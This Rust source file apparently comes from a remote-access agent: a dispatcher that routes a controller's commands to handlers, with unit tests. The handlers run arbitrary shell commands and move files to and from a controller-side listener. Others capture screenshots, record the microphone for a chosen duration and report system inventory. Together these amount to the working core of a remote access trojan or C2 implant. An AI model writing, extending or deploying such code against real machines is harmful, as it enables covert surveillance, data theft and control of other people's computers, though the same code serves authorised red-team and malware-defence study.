//! Per-command handling for a session.

use std::future::Future;
use std::net::SocketAddr;
use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::time::Duration;

use tracing::{debug, info, warn};

use super::intent::Intent;
use crate::capability::{not_supported, Capabilities};
use crate::error::Error;
use crate::execution::{execute_with_timeout, Command, ShellExecutor, DEFAULT_TIMEOUT};
use crate::protocol::Response;
use crate::session::{Session, SessionId, SessionState, SessionStore, SessionSummary};
use crate::transfer::{open_subchannel, receive_file, send_file, TransferOptions};
use crate::Result;

/// Reply returned when disconnecting.
pub const DISCONNECT_MESSAGE: &str = "Disconnecting...";

const NO_SUBCHANNEL: &str = "Error: file transfer is not available for this session";

/// How long a subchannel dial may take.
pub const DEFAULT_CONNECT_TIMEOUT: Duration = Duration::from_secs(10);

/// What the session loop should do after a command.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Reply {
    /// Send nothing and keep reading.
    Silent,
    /// Send the response and keep reading.
    Respond(Response),
    /// Send the response, then end the session.
    Close(Response),
}

/// Tunables for the dispatcher.
#[derive(Debug, Clone)]
pub struct DispatchSettings {
    /// Deadline for generic exec.
    pub exec_timeout: Duration,
    /// Deadline for dialing the controller's subchannel listener.
    pub connect_timeout: Duration,
    pub transfer: TransferOptions,
}

impl Default for DispatchSettings {
    fn default() -> Self {
        Self {
            exec_timeout: DEFAULT_TIMEOUT,
            connect_timeout: DEFAULT_CONNECT_TIMEOUT,
            transfer: TransferOptions::default(),
        }
    }
}

/// Routes each command to its handler and shapes the response.
///
/// One dispatcher is shared by every session of a process; per-session
/// state lives in the [`SessionStore`].
pub struct Dispatcher {
    store: Arc<SessionStore>,
    executor: Arc<dyn ShellExecutor>,
    capabilities: Capabilities,
    settings: DispatchSettings,
}

impl Dispatcher {
    pub fn new(store: Arc<SessionStore>, executor: Arc<dyn ShellExecutor>) -> Self {
        Self {
            store,
            executor,
            capabilities: Capabilities::default(),
            settings: DispatchSettings::default(),
        }
    }

    pub fn with_capabilities(mut self, capabilities: Capabilities) -> Self {
        self.capabilities = capabilities;
        self
    }

    pub fn with_settings(mut self, settings: DispatchSettings) -> Self {
        self.settings = settings;
        self
    }

    pub fn store(&self) -> &Arc<SessionStore> {
        &self.store
    }

    pub fn settings(&self) -> &DispatchSettings {
        &self.settings
    }

    /// Handle one raw command for session `id`.
    pub async fn dispatch(&self, id: SessionId, raw: &str) -> Reply {
        let intent = Intent::parse(raw);
        let cwd = match self.store.cwd(&id) {
            Ok(cwd) => cwd,
            Err(e) => {
                warn!(session = %id, "dispatch for unknown session: {}", e);
                return Reply::Close(Response::error(e.to_string(), Path::new("")));
            }
        };
        debug!(session = %id, intent = intent.name(), "dispatching");

        let output = match intent {
            Intent::Empty => return Reply::Silent,
            Intent::Exit => {
                info!(session = %id, "disconnect requested");
                return Reply::Close(Response::output(DISCONNECT_MESSAGE, &cwd));
            }
            Intent::List => self.list(),
            Intent::Use(_) => "Selected client for commands".to_string(),
            Intent::ChangeDir(path) => {
                return Reply::Respond(self.change_dir(&id, &cwd, &path).await);
            }
            Intent::Download(path) => self.download(&id, &cwd, &path).await,
            Intent::Upload(path) => self.upload(&id, &cwd, &path).await,
            Intent::SysInfo => self.capabilities.inventory.report(),
            Intent::Screenshot(path) => self.screenshot(&cwd, &path).await,
            Intent::RecordMic { path, seconds } => self.record_mic(&cwd, &path, seconds).await,
            Intent::Usage(usage) => format!("Usage: {}", usage),
            Intent::Exec(command) => {
                return Reply::Respond(self.exec(&id, &cwd, &command).await);
            }
        };

        Reply::Respond(Response::output(output, &cwd))
    }

    fn list(&self) -> String {
        match self.store.list() {
            Ok(rows) => render_sessions(&rows),
            Err(e) => format!("Error: {}", e),
        }
    }

    async fn change_dir(&self, id: &SessionId, cwd: &Path, path: &str) -> Response {
        if path.is_empty() {
            return Response::output("Please specify a path", cwd);
        }

        let target = cwd.join(expand_home(path));
        let resolved = match tokio::fs::canonicalize(&target).await {
            Ok(resolved) => resolved,
            Err(e) => return Response::output(format!("Error: {}: {}", path, e), cwd),
        };
        match tokio::fs::metadata(&resolved).await {
            Ok(meta) if meta.is_dir() => {}
            Ok(_) => return Response::output(format!("Error: {}: Not a directory", path), cwd),
            Err(e) => return Response::output(format!("Error: {}: {}", path, e), cwd),
        }

        if let Err(e) = self.store.set_cwd(id, &resolved) {
            return Response::output(format!("Error: {}", e), cwd);
        }
        debug!(session = %id, cwd = %resolved.display(), "working directory changed");
        Response::output("", &resolved)
    }

    async fn exec(&self, id: &SessionId, cwd: &Path, command_line: &str) -> Response {
        if let Err(e) = self.store.transition(id, SessionState::Executing) {
            return Response::output(format!("Error: {}", e), cwd);
        }

        let command = Command::new(command_line, cwd).timeout(self.settings.exec_timeout);
        let result = execute_with_timeout(self.executor.as_ref(), &command).await;
        self.settle(id);

        match result {
            Ok(result) => {
                let new_cwd = result
                    .cwd
                    .clone()
                    .filter(|p| p.is_absolute())
                    .unwrap_or_else(|| cwd.to_path_buf());
                if new_cwd != cwd {
                    if let Err(e) = self.store.set_cwd(id, &new_cwd) {
                        warn!(session = %id, "cannot record new cwd: {}", e);
                    }
                }
                Response::output(result.render(), &new_cwd)
            }
            Err(Error::Timeout) => {
                warn!(session = %id, command = command_line, "command timed out");
                Response::output("Command timed out", cwd)
            }
            Err(e) => Response::output(format!("Error: {}", e), cwd),
        }
    }

    async fn download(&self, id: &SessionId, cwd: &Path, path: &str) -> String {
        let source = cwd.join(path);
        let is_file = tokio::fs::metadata(&source)
            .await
            .map(|m| m.is_file())
            .unwrap_or(false);
        if !is_file {
            return format!("The file {} does not exist", path);
        }

        let addr = match self.transfer_addr(id) {
            Ok(addr) => addr,
            Err(message) => return message,
        };
        let options = self.settings.transfer.clone();
        let timeout = self.settings.connect_timeout;
        let task = async move {
            let stream = open_subchannel(addr, timeout).await?;
            send_file(stream, &source, &options).await
        };

        match self.run_transfer(id, task).await {
            Ok(bytes) => format!("File {} sent ({} bytes)", path, bytes),
            Err(e) => format!("Error: {}", e),
        }
    }

    async fn upload(&self, id: &SessionId, cwd: &Path, path: &str) -> String {
        let addr = match self.transfer_addr(id) {
            Ok(addr) => addr,
            Err(message) => return message,
        };
        let options = self.settings.transfer.clone();
        let timeout = self.settings.connect_timeout;
        let dest_dir = cwd.to_path_buf();
        let task = async move {
            let stream = open_subchannel(addr, timeout).await?;
            receive_file(stream, &dest_dir, &options).await
        };

        match self.run_transfer(id, task).await {
            Ok(received) => format!("File {} received ({} bytes)", path, received.received),
            Err(e) => format!("Error: {}", e),
        }
    }

    fn transfer_addr(&self, id: &SessionId) -> std::result::Result<SocketAddr, String> {
        match self.store.get(id) {
            Ok(Some(Session {
                transfer_addr: Some(addr),
                ..
            })) => Ok(addr),
            Ok(_) => Err(NO_SUBCHANNEL.to_string()),
            Err(e) => Err(format!("Error: {}", e)),
        }
    }

    /// Run a transfer on its own task with the session marked `Transferring`.
    ///
    /// The task outlives a dropped caller, so a closed session never
    /// cancels a transfer half-way; its result is simply discarded.
    async fn run_transfer<T, F>(&self, id: &SessionId, task: F) -> Result<T>
    where
        F: Future<Output = Result<T>> + Send + 'static,
        T: Send + 'static,
    {
        self.store.transition(id, SessionState::Transferring)?;
        let outcome = match tokio::spawn(task).await {
            Ok(outcome) => outcome,
            Err(e) => Err(Error::Transfer(format!("transfer task failed: {}", e))),
        };
        self.settle(id);
        outcome
    }

    async fn screenshot(&self, cwd: &Path, path: &str) -> String {
        let screen = &self.capabilities.screen;
        if !screen.is_supported() {
            return not_supported("screenshot");
        }
        match screen.capture(&cwd.join(path)).await {
            Ok(message) => message,
            Err(e) => format!("Error: {}", e),
        }
    }

    async fn record_mic(&self, cwd: &Path, path: &str, seconds: u64) -> String {
        let audio = &self.capabilities.audio;
        if !audio.is_supported() {
            return not_supported("recordmic");
        }
        match audio
            .record(&cwd.join(path), Duration::from_secs(seconds))
            .await
        {
            Ok(message) => message,
            Err(e) => format!("Error: {}", e),
        }
    }

    /// Return the session to `Ready` after an intent finished.
    fn settle(&self, id: &SessionId) {
        if let Err(e) = self.store.transition(id, SessionState::Ready) {
            debug!(session = %id, "state not restored: {}", e);
        }
    }
}

/// Render the `list` table: header, rule, one row per session.
pub fn render_sessions(rows: &[SessionSummary]) -> String {
    let ids: Vec<String> = rows.iter().map(|r| r.id.to_string()).collect();
    let width = ids.iter().map(String::len).max().unwrap_or(0).max(2);

    let mut lines = Vec::with_capacity(rows.len() + 2);
    lines.push(format!("{:<width$}  CWD", "ID", width = width));
    lines.push(format!("{}  {}", "-".repeat(width), "-".repeat(3)));
    for (id, row) in ids.iter().zip(rows) {
        lines.push(format!("{:<width$}  {}", id, row.cwd.display(), width = width));
    }
    lines.join("\n")
}

fn expand_home(path: &str) -> PathBuf {
    let home = std::env::var_os("HOME").or_else(|| std::env::var_os("USERPROFILE"));
    match (path, home) {
        ("~", Some(home)) => PathBuf::from(home),
        (p, Some(home)) if p.starts_with("~/") => PathBuf::from(home).join(&p[2..]),
        (p, _) => PathBuf::from(p),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::execution::ExecutionResult;
    use crate::session::{SessionConfig, TransportKind};
    use async_trait::async_trait;
    use std::sync::atomic::{AtomicUsize, Ordering};

    /// Records every command and answers with a canned result.
    struct ScriptedShell {
        calls: AtomicUsize,
        result: ExecutionResult,
        delay: Duration,
    }

    impl ScriptedShell {
        fn new(result: ExecutionResult) -> Self {
            Self {
                calls: AtomicUsize::new(0),
                result,
                delay: Duration::ZERO,
            }
        }
    }

    #[async_trait]
    impl ShellExecutor for ScriptedShell {
        async fn execute(&self, _command: &Command) -> Result<ExecutionResult> {
            self.calls.fetch_add(1, Ordering::SeqCst);
            if !self.delay.is_zero() {
                tokio::time::sleep(self.delay).await;
            }
            Ok(self.result.clone())
        }
    }

    fn setup(shell: ScriptedShell, cwd: &Path) -> (Dispatcher, Arc<ScriptedShell>, SessionId) {
        let store = Arc::new(SessionStore::new());
        let id = store
            .register(SessionConfig::new(cwd, TransportKind::Stream))
            .unwrap();
        let shell = Arc::new(shell);
        let dispatcher = Dispatcher::new(store, shell.clone());
        (dispatcher, shell, id)
    }

    fn output_of(reply: Reply) -> (String, String) {
        match reply {
            Reply::Respond(resp) => (resp.text().to_string(), resp.cwd().to_string()),
            other => panic!("expected a response, got {:?}", other),
        }
    }

    #[tokio::test]
    async fn test_exec_runs_once_and_renders() {
        let dir = tempfile::tempdir().unwrap();
        let shell = ScriptedShell::new(ExecutionResult::new("out\n", "warn\n"));
        let (dispatcher, shell, id) = setup(shell, dir.path());

        let (text, cwd) = output_of(dispatcher.dispatch(id, "make all").await);
        assert_eq!(text, "out\n\nError: warn\n");
        assert_eq!(cwd, dir.path().display().to_string());
        assert_eq!(shell.calls.load(Ordering::SeqCst), 1);
        assert_eq!(
            dispatcher.store().get(&id).unwrap().unwrap().state,
            SessionState::Ready
        );
    }

    #[tokio::test]
    async fn test_exec_adopts_probed_cwd() {
        let shell = ScriptedShell::new(ExecutionResult::new("", "").with_cwd("/opt"));
        let (dispatcher, _, id) = setup(shell, Path::new("/"));

        let (_, cwd) = output_of(dispatcher.dispatch(id, "true && cd /opt").await);
        assert_eq!(cwd, "/opt");
        assert_eq!(dispatcher.store().cwd(&id).unwrap(), PathBuf::from("/opt"));
    }

    #[tokio::test]
    async fn test_exec_timeout() {
        let mut shell = ScriptedShell::new(ExecutionResult::default());
        shell.delay = Duration::from_secs(5);
        let (dispatcher, _, id) = setup(shell, Path::new("/"));
        let dispatcher = dispatcher.with_settings(DispatchSettings {
            exec_timeout: Duration::from_millis(50),
            ..Default::default()
        });

        let (text, _) = output_of(dispatcher.dispatch(id, "sleep 60").await);
        assert_eq!(text, "Command timed out");
    }

    #[tokio::test]
    async fn test_builtins_never_reach_shell() {
        let dir = tempfile::tempdir().unwrap();
        let shell = ScriptedShell::new(ExecutionResult::default());
        let (dispatcher, shell, id) = setup(shell, dir.path());

        for cmd in ["", "list", "use 1", "cd", "sysinfo", "download", "screenshot a.png"] {
            dispatcher.dispatch(id, cmd).await;
        }
        assert_eq!(shell.calls.load(Ordering::SeqCst), 0);
    }

    #[tokio::test]
    async fn test_empty_is_silent() {
        let (dispatcher, _, id) = setup(ScriptedShell::new(Default::default()), Path::new("/"));
        assert_eq!(dispatcher.dispatch(id, "   ").await, Reply::Silent);
    }

    #[tokio::test]
    async fn test_exit_closes() {
        let (dispatcher, _, id) = setup(ScriptedShell::new(Default::default()), Path::new("/"));
        match dispatcher.dispatch(id, "QUIT").await {
            Reply::Close(resp) => assert_eq!(resp.text(), DISCONNECT_MESSAGE),
            other => panic!("unexpected reply {:?}", other),
        }
    }

    #[tokio::test]
    async fn test_cd_changes_session_cwd_only() {
        let dir = tempfile::tempdir().unwrap();
        std::fs::create_dir(dir.path().join("sub")).unwrap();
        let root = dir.path().canonicalize().unwrap();
        let (dispatcher, _, id) = setup(ScriptedShell::new(Default::default()), &root);
        let other = dispatcher
            .store()
            .register(SessionConfig::new(&root, TransportKind::Stream))
            .unwrap();

        let (text, cwd) = output_of(dispatcher.dispatch(id, "cd sub").await);
        assert_eq!(text, "");
        assert_eq!(cwd, root.join("sub").display().to_string());
        assert_eq!(dispatcher.store().cwd(&other).unwrap(), root);

        let (_, cwd) = output_of(dispatcher.dispatch(id, "cd ..").await);
        assert_eq!(cwd, root.display().to_string());
    }

    #[tokio::test]
    async fn test_cd_failures_keep_cwd() {
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(dir.path().join("file.txt"), b"x").unwrap();
        let (dispatcher, _, id) = setup(ScriptedShell::new(Default::default()), dir.path());

        let (text, _) = output_of(dispatcher.dispatch(id, "cd").await);
        assert_eq!(text, "Please specify a path");

        let (text, cwd) = output_of(dispatcher.dispatch(id, "cd missing").await);
        assert!(text.starts_with("Error: missing"));
        assert_eq!(cwd, dir.path().display().to_string());

        let (text, _) = output_of(dispatcher.dispatch(id, "cd file.txt").await);
        assert_eq!(text, "Error: file.txt: Not a directory");
        assert_eq!(dispatcher.store().cwd(&id).unwrap(), dir.path());
    }

    #[tokio::test]
    async fn test_download_missing_file() {
        let dir = tempfile::tempdir().unwrap();
        let (dispatcher, _, id) = setup(ScriptedShell::new(Default::default()), dir.path());

        let (text, _) = output_of(dispatcher.dispatch(id, "download missing.txt").await);
        assert_eq!(text, "The file missing.txt does not exist");
    }

    #[tokio::test]
    async fn test_transfer_without_subchannel() {
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(dir.path().join("a.txt"), b"abc").unwrap();
        let (dispatcher, _, id) = setup(ScriptedShell::new(Default::default()), dir.path());

        let (text, _) = output_of(dispatcher.dispatch(id, "download a.txt").await);
        assert_eq!(text, NO_SUBCHANNEL);
        let (text, _) = output_of(dispatcher.dispatch(id, "upload a.txt").await);
        assert_eq!(text, NO_SUBCHANNEL);
    }

    #[tokio::test]
    async fn test_list_renders_every_session() {
        let (dispatcher, _, id) = setup(ScriptedShell::new(Default::default()), Path::new("/"));
        dispatcher
            .store()
            .register(SessionConfig::new("/tmp", TransportKind::WebSocket))
            .unwrap();

        let (text, _) = output_of(dispatcher.dispatch(id, "list").await);
        let lines: Vec<&str> = text.lines().collect();
        assert_eq!(lines.len(), 4);
        assert!(lines[0].starts_with("ID"));
        assert!(lines[2].starts_with(&id.to_string()));
        assert!(lines[3].ends_with("/tmp"));
    }

    #[tokio::test]
    async fn test_capabilities_unsupported_and_usage() {
        let (dispatcher, _, id) = setup(ScriptedShell::new(Default::default()), Path::new("/"));

        let (text, _) = output_of(dispatcher.dispatch(id, "screenshot s.png").await);
        assert_eq!(text, "screenshot is not supported on this host");
        let (text, _) = output_of(dispatcher.dispatch(id, "recordmic a.wav 3").await);
        assert_eq!(text, "recordmic is not supported on this host");
        let (text, _) = output_of(dispatcher.dispatch(id, "recordmic a.wav").await);
        assert_eq!(text, "Usage: recordmic <file>.<ext> <seconds>");
        let (text, _) = output_of(dispatcher.dispatch(id, "use 7").await);
        assert_eq!(text, "Selected client for commands");
    }

    /// Screen capture that records the path it was asked to write.
    struct FakeScreen(std::sync::Mutex<Option<PathBuf>>);

    #[async_trait]
    impl crate::capability::ScreenCapture for FakeScreen {
        fn is_supported(&self) -> bool {
            true
        }

        async fn capture(&self, path: &Path) -> Result<String> {
            *self.0.lock().unwrap() = Some(path.to_path_buf());
            Ok(format!("Screenshot saved to {}", path.display()))
        }
    }

    #[tokio::test]
    async fn test_injected_capability_resolves_against_cwd() {
        let dir = tempfile::tempdir().unwrap();
        let screen = Arc::new(FakeScreen(std::sync::Mutex::new(None)));
        let (dispatcher, _, id) = setup(ScriptedShell::new(Default::default()), dir.path());
        let dispatcher = dispatcher.with_capabilities(Capabilities {
            screen: screen.clone(),
            ..Capabilities::default()
        });

        let (text, _) = output_of(dispatcher.dispatch(id, "screenshot shot.png").await);
        let expected = dir.path().join("shot.png");
        assert_eq!(text, format!("Screenshot saved to {}", expected.display()));
        assert_eq!(screen.0.lock().unwrap().clone(), Some(expected));

        let (text, _) = output_of(dispatcher.dispatch(id, "recordmic a.wav 2").await);
        assert_eq!(text, "recordmic is not supported on this host");
    }

    #[test]
    fn test_render_sessions_empty() {
        let table = render_sessions(&[]);
        assert_eq!(table.lines().count(), 2);
    }
}
